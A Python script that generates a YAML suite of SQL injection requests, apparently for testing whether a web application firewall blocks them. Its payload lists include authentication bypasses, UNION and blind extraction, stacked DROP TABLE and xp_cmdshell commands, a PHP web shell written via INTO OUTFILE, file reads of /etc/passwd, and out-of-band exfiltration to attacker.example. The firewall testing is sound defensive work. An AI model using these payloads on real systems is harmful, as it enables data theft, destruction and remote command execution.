"""SQL injection attacks: ``attacks/1030-sqli.yaml``.

Payloads are written from SQL syntax and the shapes public tools send
(sqlmap's boolean/error/time/UNION probes, hand-written auth bypasses,
database-specific functions for MySQL, PostgreSQL, MSSQL, Oracle and SQLite).
Each group goes into the placements where that kind of injection travels, and
some groups under the encodings an attacker layers on top (the server
decoding a second time, IIS ``%u``, HTML entities a rich-text field decodes,
alternating case).
"""

from __future__ import annotations

import html
from collections.abc import Iterable, Sequence
from typing import Any
from urllib.parse import quote_plus

from common import (
    API_HEADERS,
    BROWSER_HEADERS,
    ENCODINGS,
    Placement,
    header_safe,
    in_cookie,
    in_form,
    in_header,
    in_json,
    in_path,
    in_query,
    in_xml,
    request,
    write,
)

FAMILY = "sqli"

# Authentication bypass and tautologies, the string and numeric context.
TAUTOLOGY = [
    "' OR '1'='1",
    "' OR 1=1-- -",
    "admin'--",
    "admin' #",
    "\" OR \"\"=\"",
    "') OR ('a'='a",
    "1 OR 1=1",
    "' or 'x'='x' /*",
    "' OR true--",
    "1' || '1'='1",
    "' OR 2>1 -- ",
    "x' OR username LIKE '%admin%' -- ",
    "' OR 'a' BETWEEN 'a' AND 'b",
    "admin') OR ('1'='1'--",
    "' OR 1 IN (SELECT 1)-- ",
    "'=0--+",
    "1' OR '1' IS NOT NULL -- ",
    "-1 OR 3*2=6",
]

UNION = [
    "' UNION SELECT NULL,NULL,NULL-- -",
    "1 UNION ALL SELECT username,password FROM users--",
    "-1' UNION SELECT 1,@@version,3-- -",
    "1 union/**/select/**/1,2,3",
    "' UNION SELECT table_name,NULL FROM information_schema.tables-- ",
    "-5 UNION ALL SELECT CONCAT(0x7171787671,0x4a6b4e,0x71767a7a71),NULL,NULL-- -",
    "1' UNION SELECT NULL,CHAR(113,118,122,112,113)-- ",
    "0 UNION SELECT name,sql FROM sqlite_master WHERE type='table'",
    "') UNION SELECT usename,passwd FROM pg_shadow-- ",
    "1 UNION DISTINCT SELECT user(),database()",
    "' union select 1,group_concat(column_name),3 from information_schema.columns "
    "where table_name='users'-- -",
    "999999.9 UNION ALL SELECT 0x31303235343830303536,0x31303235343830303536-- ",
    "1)) UNION SELECT password FROM accounts WHERE ((1=1",
    "' UNION SELECT banner,NULL FROM v$version-- ",
]

ERROR_BASED = [
    "' AND extractvalue(1,concat(0x7e,(select user())))-- -",
    "' AND updatexml(1,concat(0x7e,version()),1)-- ",
    "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
    "FROM information_schema.tables GROUP BY x)a)",
    "' AND 1=CONVERT(int,@@version)-- ",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "'||(SELECT utl_inaddr.get_host_name((SELECT banner FROM v$version WHERE rownum=1)) "
    "FROM dual)||'",
    "' AND EXP(~(SELECT * FROM (SELECT USER())a))-- ",
    "1 AND GTID_SUBSET(CONCAT(0x71,(SELECT database()),0x71),1)",
    "' AND 1=(SELECT TOP 1 name FROM sysobjects WHERE xtype='U')-- ",
    "1' AND ctxsys.drithsx.sn(1,(SELECT user FROM dual))=1-- ",
]

BOOLEAN_BLIND = [
    "1 AND 1=1",
    "1' AND '1'='1",
    "1 AND 5746=5746",
    "1) AND 7341=7341 AND (1=1",
    "' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a",
    "1 AND ASCII(SUBSTR((SELECT user()),1,1))>64",
    "' AND (SELECT COUNT(*) FROM users)>0-- ",
    "1' AND LENGTH(database())=8-- -",
    "1 RLIKE (SELECT (CASE WHEN (4346=4346) THEN 1 ELSE 0x28 END))",
    "1 AND ORD(MID((SELECT IFNULL(CAST(username AS NCHAR),0x20) FROM users ORDER BY id "
    "LIMIT 0,1),1,1))>64",
    "' AND 'a'=(SELECT CASE WHEN (1=1) THEN 'a' ELSE 'b' END)-- ",
    "1' AND (SELECT 'x' FROM users WHERE username='administrator' AND LENGTH(password)>1)='x",
]

TIME_BASED = [
    "1' AND SLEEP(5)-- -",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
    "'; WAITFOR DELAY '0:0:5'--",
    "1; SELECT pg_sleep(5)--",
    "' OR BENCHMARK(10000000,MD5(1))#",
    "1' AND 1=(SELECT 1 FROM PG_SLEEP(5))-- ",
    "'||pg_sleep(10)--",
    "1 AND 123=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5)",
    "if(now()=sysdate(),sleep(5),0)",
    "1' XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
    "1 AND 1337=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
    "(select(0)from(select(sleep(5)))v)/*'+(select(0)from(select(sleep(5)))v)+'*/",
    "1'; IF (1=1) WAITFOR DELAY '00:00:05'--",
    "1-IF(MID(VERSION(),1,1)=5,SLEEP(5),0)",
]

STACKED = [
    "1; DROP TABLE users--",
    "'; INSERT INTO users (username,password,role) VALUES ('eve','x','admin')--",
    "1; EXEC xp_cmdshell('whoami')--",
    "'; exec master..xp_cmdshell 'ping -n 3 203.0.113.9'--",
    "1; UPDATE users SET role='admin' WHERE id=1--",
    "'; SHUTDOWN WITH NOWAIT--",
    "1;DECLARE @q varchar(99);SET @q='\\\\attacker.example\\x';EXEC master.dbo.xp_dirtree @q",
    "Robert'); DROP TABLE Students;--",
    "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE--",
    "1; CREATE TABLE cmd(o text); COPY cmd FROM PROGRAM 'id'--",
]

FILE_ACCESS = [
    "' UNION SELECT LOAD_FILE('/etc/passwd'),NULL-- -",
    "1 UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'",
    "1 INTO DUMPFILE '/tmp/x.so'",
    "' UNION SELECT pg_read_file('/etc/passwd',0,200)-- ",
    "1; SELECT * FROM OPENROWSET(BULK 'C:\\Windows\\win.ini', SINGLE_CLOB) AS x--",
    "'||UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual))||'",
    "1 AND (SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),"
    "'.attacker.example\\\\a')))",
    "'; SELECT lo_import('/etc/passwd')--",
]

OBFUSCATED = [
    "1/*!50000UNION*//*!50000SELECT*/1,2,3",
    "1'/**/OR/**/1=1#",
    "-1/*!union*/ /*!select*/ 1,2",
    "1'\nOR\n1=1-- ",
    "1'\tuNiOn\tsElEcT\tnull,null-- ",
    "'/**/oR/**/'1'/**/=/**/'1",
    "1+union+distinctROW+select+1,2",
    "1 /*!12345AND*/ 1=1",
    "%55NION %53ELECT 1,2,3",
    "1'||(SELECT/**/CHAR(65)||CHR(66))||'",
    "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e,1 1.e)1.e)1.e) "
    "= 70 or'1'='2",
    "1 AND{`if`SLEEP(5)}",
]

ENCODED_LITERALS = [
    "1 UNION SELECT 0x61646d696e,0x70617373",
    "' OR username=0x61646d696e-- ",
    "1 AND 1=2 UNION SELECT CHAR(97,100,109,105,110),2",
    "'+CHAR(39)+CHAR(32)+CHAR(79)+CHAR(82)+CHAR(32)+CHAR(49)+CHAR(61)+CHAR(49)--",
    "SELECT CONVERT(UNHEX('61646D696E') USING utf8)",
    "1' AND x'41'=x'41'-- ",
]

METADATA = [
    "' AND 1=0 UNION SELECT schema_name FROM information_schema.schemata-- ",
    "1 UNION SELECT name,NULL FROM master..sysdatabases",
    "' UNION SELECT table_name FROM all_tables-- ",
    "1 UNION SELECT user,authentication_string FROM mysql.user",
    "' UNION SELECT tablename FROM pg_catalog.pg_tables-- ",
    "1 AND (SELECT COUNT(*) FROM information_schema.processlist)>0",
]

PROBES = [
    "1' ORDER BY 10-- -",
    "1 GROUP BY 1,2,3 HAVING 1=1--",
    "' HAVING 1=1--",
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
    "'-sleep(5)-'",
    "' AND '1' LIKE '1",
    "1' AND 1=1 LIMIT 1 -- -",
    "'+(SELECT 1)+'",
    "1 AND (SELECT 1)=1",
    "' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- ",
    "1 AND '{\"a\":2}'::jsonb @> '{\"a\":1}'::jsonb",
    "@@version",
]

# Further shapes: JSON operators as tautologies, type juggling with an
# empty string, numeric context without quotes, vertical tabs and MySQL #
# comments between keywords, ORDER BY and HAVING positions.
MORE = [
    "' OR '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb-- ",
    "1 OR '[1,2]'::jsonb ? '1'",
    "'-'",
    "x'='x",
    "1 OR a=a",
    "1\x0bUNION\x0bSELECT\x0bpassword,2\x0bFROM\x0busers",
    "1 union#foo\ndistinctrow select user()",
    "' AnD SLEEP(5) ANd '1",
    "'&&SLEEP(5)&&'1",
    "name ORDER BY SLEEP(5)",
    "1 HAVING 1=1 AND 'x'='x",
    "'||(SELECT version())||'",
    "1 AND 2947=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
    "admin@example.com';",
    "';select pg_sleep(10);--",
]

SECOND_ORDER = [
    "admin'-- ",
    "O'Brien' OR 1=1-- ",
    "jane@example.com'; UPDATE users SET email='eve@attacker.example' WHERE username='admin'-- ",
    "test', (SELECT password FROM users WHERE username='admin'))-- ",
]


def multipart_field(field: str = "description", path: str = "/upload") -> Placement:
    """A multipart/form-data form field, written with ``\\n`` line ends.

    go-ftw (and ``bastion replay``) turn every ``\\n`` of a multipart body
    into ``\\r\\n``, so the body is written with bare ``\\n`` and
    Content-Length counts the bytes after that conversion (common.in_multipart
    writes ``\\r\\n`` and would end up with ``\\r\\r\\n`` and a short length).
    """
    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gWb"

    def build(v: str) -> dict[str, Any]:
        body = (f"--{boundary}\nContent-Disposition: form-data; name=\"title\"\n\n"
                f"Quarterly report\n--{boundary}\n"
                f"Content-Disposition: form-data; name=\"{field}\"\n\n{v}\n"
                f"--{boundary}--\n")
        headers = {**BROWSER_HEADERS, "Content-Type": f"multipart/form-data; boundary={boundary}"}
        out = request("POST", path, headers, body)
        out["headers"]["Content-Length"] = str(len(body.replace("\n", "\r\n").encode()))
        return out
    return build


def xml_attribute(v: str) -> dict[str, Any]:
    """The payload in an XML attribute value (SOAP and XML APIs carry ids there)."""
    body = (f'<?xml version="1.0"?><lookup><customer id="{html.escape(v, quote=True)}" '
            f'region="eu"/></lookup>')
    return request("POST", "/api/v1/customers/lookup",
                   {**API_HEADERS, "Content-Type": "application/xml"}, body)


def _arg_name(v: str) -> dict[str, Any]:
    """The payload as a query parameter's name (frameworks that echo or use keys)."""
    return request("GET", f"/products?{quote_plus(v)}=1&sort=price")


# Where each kind of placement puts the payload in this family: a parameter
# an application would feed to SQL (an id, a login name, a search filter).
# Keys are the placement tags of the README; the values build the request.
SQL_PLACES: dict[str, Placement] = {
    "query": in_query("id", "/product"),
    "path": in_path("/products/"),
    "form": in_form("username", "/login"),
    "json": in_json("username", "/api/v1/login"),
    "xml": in_xml("customer"),
    "xml-attr": lambda v: xml_attribute(v),
    "multipart": multipart_field("description"),
    "header": in_header("Referer"),
    "cookie": in_cookie("uid"),
}
EXTRA_PLACES: dict[str, tuple[str, Placement]] = {
    # name: (placement tag, builder)
    "user-agent": ("header", in_header("User-Agent")),
    "x-forwarded-for": ("header", in_header("X-Forwarded-For")),
    "arg-name": ("query", _arg_name),
    "search": ("query", in_query("q", "/search")),
    "comment": ("form", in_form("comment", "/contact")),
    "filter": ("json", in_json("query", "/api/v1/search")),
}


def sql_cases(payloads: Iterable[str], placements: Sequence[str],
              encodings: Sequence[str] = ("plain",), technique: str = "",
              per_payload: int = 0) -> list[dict[str, Any]]:
    """As common.cases, over this family's placements (SQL_PLACES, EXTRA_PLACES).

    With ``per_payload`` N, payload i goes to N of the placements, rotating
    from position i, instead of all of them.
    """
    out: list[dict[str, Any]] = []
    for i, payload in enumerate(payloads):
        chosen = list(placements)
        if per_payload:
            chosen = [placements[(i + j) % len(placements)] for j in range(per_payload)]
        for enc in encodings:
            value = ENCODINGS[enc](payload)
            for where in chosen:
                tag, build = EXTRA_PLACES.get(where) or (where.split("-")[0], SQL_PLACES[where])
                if tag in ("header", "cookie") and not header_safe(value):
                    continue
                tags = ["attack", f"family:{FAMILY}", f"placement:{tag}", f"encoding:{enc}"]
                if technique:
                    tags.append(f"technique:{technique}")
                out.append({"desc": payload[:120], "tags": tags,
                            "stages": [{"input": build(value), "output": {"status": 403}}]})
    return out


def build() -> list[dict[str, Any]]:
    t: list[dict[str, Any]] = []
    add = t.extend
    add(sql_cases(TAUTOLOGY, ("form", "query", "json", "cookie"), technique="tautology",
                  per_payload=3))
    add(sql_cases(TAUTOLOGY[:6], ("query",), ("double-url", "unicode-u"), "tautology"))
    add(sql_cases(TAUTOLOGY[:4], ("form", "xml"), ("html-entity",), "tautology"))
    add(sql_cases(TAUTOLOGY[6:10], ("query",), ("mixed-case",), "tautology"))
    add(sql_cases(UNION, ("query", "path", "filter", "xml"), technique="union", per_payload=3))
    add(sql_cases(UNION[:4], ("search",), ("double-url", "mixed-case"), "union"))
    add(sql_cases(UNION[4:7], ("comment",), ("unicode-u", "html-hex-entity"), "union"))
    add(sql_cases(ERROR_BASED, ("query", "form", "multipart"), technique="error", per_payload=2))
    add(sql_cases(BOOLEAN_BLIND, ("query", "cookie", "filter"), technique="boolean-blind",
                  per_payload=2))
    add(sql_cases(TIME_BASED, ("query", "comment", "header", "json"), technique="time-blind",
                  per_payload=3))
    add(sql_cases(TIME_BASED[:4], ("search",), ("double-url",), "time-blind"))
    add(sql_cases(TIME_BASED[:3], ("user-agent", "x-forwarded-for"), technique="time-blind"))
    add(sql_cases(STACKED, ("query", "form", "xml"), technique="stacked", per_payload=2))
    add(sql_cases(FILE_ACCESS, ("query", "filter", "multipart"), technique="file-access",
                  per_payload=2))
    add(sql_cases(OBFUSCATED, ("query", "comment"), technique="obfuscated"))
    add(sql_cases(OBFUSCATED[:5], ("search",), ("double-url",), "obfuscated"))
    add(sql_cases(ENCODED_LITERALS, ("query", "json"), technique="hex-char"))
    add(sql_cases(METADATA, ("query", "cookie"), technique="metadata", per_payload=1))
    add(sql_cases(PROBES, ("query", "comment"), technique="probe", per_payload=1))
    add(sql_cases(MORE, ("query", "form", "json", "xml-attr"), technique="misc", per_payload=1))
    add(sql_cases(UNION[:3] + TIME_BASED[:3], ("xml-attr",), technique="xml-attribute"))
    add(sql_cases(SECOND_ORDER, ("form", "json", "multipart"), technique="second-order",
                  per_payload=2))
    add(sql_cases(["' OR '1'='1", "1 AND SLEEP(5)", "' UNION SELECT NULL-- -"], ("arg-name",),
                  technique="arg-name"))
    return t


def main() -> None:
    write("attacks/1030-sqli.yaml", 1030000,
          "SQL injection: tautologies, UNION, error-based, boolean and time-based blind, "
          "stacked queries, file access, comment/encoding obfuscation, metadata probing", build())


if __name__ == "__main__":
    main()
